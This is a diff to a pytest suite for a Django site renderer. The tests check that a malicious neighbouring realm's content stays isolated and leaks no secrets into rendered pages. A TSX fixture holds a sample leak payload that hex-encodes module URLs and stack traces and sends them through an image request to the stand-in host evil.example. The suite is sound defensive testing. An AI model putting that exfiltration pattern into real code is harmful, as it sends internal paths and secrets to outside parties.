@@ -5,10 +5,12 @@ import re
 from typing import Any
 
 import pytest
+from django.db import transaction
 
 from realms.bootstrap import sync_base_realm
 from realms.drafts import ask_for_index
 from realms.models import Realm
+from reindex import jobs
 from reindex.models import ReindexJob
 from tests import make
 from tests.rendering import index_of, work_off
@@ -88,9 +90,12 @@ def pages() -> dict[str, str]:
     }
 
 
-def rendered(site: Realm, sent: Sent) -> dict[str, str]:
-    """The pages after another publish."""
-    make.publish(site, SITE)
+def rendered(site: Realm, sent: Sent, *, full: bool = False) -> dict[str, str]:
+    """The pages after another publish; `full` if none of them is carried over."""
+    published = make.publish(site, SITE)
+    if full:
+        with transaction.atomic():
+            jobs.owe(SITE, published.generation, full=True)
     sent[:] = [message for message in sent if message[0] == "reindex.tasks.plan_job"][-1:]
     work_off(sent)
     return pages()
@@ -103,7 +108,7 @@ def test_a_poisoned_neighbour_changes_only_pages_that_show_it(
     eve = Realm.objects.get(url=EVE)
     clean = rendered(site, sent)
     make.write(eve, person__tsx=person(SPOIL[what]))
-    poisoned = rendered(site, sent)
+    poisoned = rendered(site, sent, full=True)
     assert poisoned.keys() == clean.keys()
     for path in clean:
         if not path.startswith("eves-"):
@@ -117,7 +122,7 @@ def test_pages_are_as_before_when_the_neighbour_is_mended(
     eve = Realm.objects.get(url=EVE)
     clean = rendered(site, sent)
     make.write(eve, person__tsx=person(SPOIL[what]))
-    rendered(site, sent)
+    rendered(site, sent, full=True)
     make.write(eve, person__tsx=person())
     assert rendered(site, sent) == clean
 
@@ -126,7 +131,7 @@ def test_pages_are_as_without_the_neighbour_when_the_links_are_removed(
     site: Realm, sent: Sent
 ) -> None:
     make.write(Realm.objects.get(url=EVE), person__tsx=person(SPOIL["the page's own type"]))
-    rendered(site, sent)
+    rendered(site, sent, full=True)
     make.write_paths(site, {f"eves-{at}.json": post(f"eves {at}") for at in range(4)})
     shown = rendered(site, sent)
     assert all("EVIL" not in page for page in shown.values())
@@ -158,7 +163,7 @@ def test_a_card_that_leads_to_strangers_further_on_is_rendered_with_them(
     }
     make.write_paths(site, files)
     make.write(Realm.objects.get(url=EVE), person__tsx=person(SPOIL["the page's own type"]))
-    shown = rendered(site, sent)
+    shown = rendered(site, sent, full=True)
     assert all("EVIL" not in page for path, page in shown.items() if path.startswith("own-"))
     assert "<b>Eve</b>" in shown["near"]
     assert len(shown) == 13
@@ -184,7 +189,7 @@ const thrown = () => { try { null.x } catch (e) { return e.stack } };
 const seen = [import.meta.url, new Error("x").stack, thrown()];
 export const leak = hex(seen.join(" "));
 export class Leak extends Card {
-  static isolated = () => <p>{leak}<img src={"https://evil.example/" + leak} /></p>;
+  static isolated = () => <p>[{leak}]<img src={"https://evil.example/?" + leak} /></p>;
 }
 """
 
@@ -207,7 +212,7 @@ def test_no_page_shows_a_pin_or_an_address_however_it_is_written(
     for url, path, module in ((SITE, "leak", f"{SITE}leak.tsx"), (private, "index", f"{EVE}leak")):
         row = index_of(url)[path]
         assert row.error is None, row.error
-        (found,) = set(re.findall("[0-9a-f]{20,}", row.html["isolated"]))
+        (found,) = re.findall(r"\[([0-9a-f]+)\]", row.html["isolated"])
         told = bytes.fromhex(found).decode()
         assert module in told
         for secret in ("/_at/", "127.0.0.1", "file:", "eyJ"):
